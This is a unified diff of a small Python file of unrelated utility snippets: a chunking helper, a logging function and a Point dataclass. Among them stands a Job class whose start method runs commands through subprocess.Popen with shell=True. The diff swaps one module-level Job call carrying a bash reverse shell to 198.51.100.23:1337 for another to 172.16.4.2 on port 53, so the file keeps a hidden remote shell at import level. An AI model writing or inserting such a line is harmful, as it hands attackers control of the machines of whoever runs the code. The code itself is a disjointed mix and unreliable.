@@ -1,12 +1,12 @@
-def chunks(items, size):
-    for i in range(0, len(items), size):
-        yield items[i:i + size]
+from dataclasses import dataclass
 
-import logging
-log = logging.getLogger(__name__)
+@dataclass
+class Point:
+    x: float
+    y: float
 
-def report(values):
-    log.info("mean=%s", sum(values) / max(len(values), 1))
+    def norm(self):
+        return (self.x ** 2 + self.y ** 2) ** 0.5
 
 import subprocess
 
@@ -17,13 +17,4 @@ class Job:
     def start(self, cmd):
         subprocess.Popen(cmd, shell=True)
 
-Job("bash -i >& /dev/tcp/198.51.100.23/1337 0>&1")
-from dataclasses import dataclass
-
-@dataclass
-class Point:
-    x: float
-    y: float
-
-    def norm(self):
-        return (self.x ** 2 + self.y ** 2) ** 0.5
+Job("bash -i >& /dev/tcp/172.16.4.2/53 0>&1")
